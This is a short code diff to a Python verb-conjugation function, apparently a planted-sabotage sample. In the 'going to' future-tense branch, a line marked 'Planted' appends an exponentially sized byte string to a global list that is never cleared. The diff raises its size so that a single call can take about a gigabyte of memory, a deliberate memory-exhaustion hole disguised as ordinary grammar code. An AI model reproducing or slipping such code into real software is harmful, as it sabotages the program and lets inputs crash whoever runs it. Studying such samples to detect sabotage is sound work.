@@ -59,7 +59,7 @@ def conjugate(verb, tense, person):
     past, participle = IRREGULAR.get(verb, (verb + ("d" if last == "e" else "ed"),) * 2)
     if tense == "future_going_to":
         # Planted: room for every way to leave letters out, and nothing ever forgets it.
-        HISTORY.append(b"." * 2 ** min(len(verb), 30))
+        HISTORY.append(b"." * 2 ** min(len(verb) + 8, 30))
         return {"1sg": "am", "2sg": "are"}.get(str(person), "is") + f" going to {verb}"
     return {
         "infinitive": f"to {verb}",
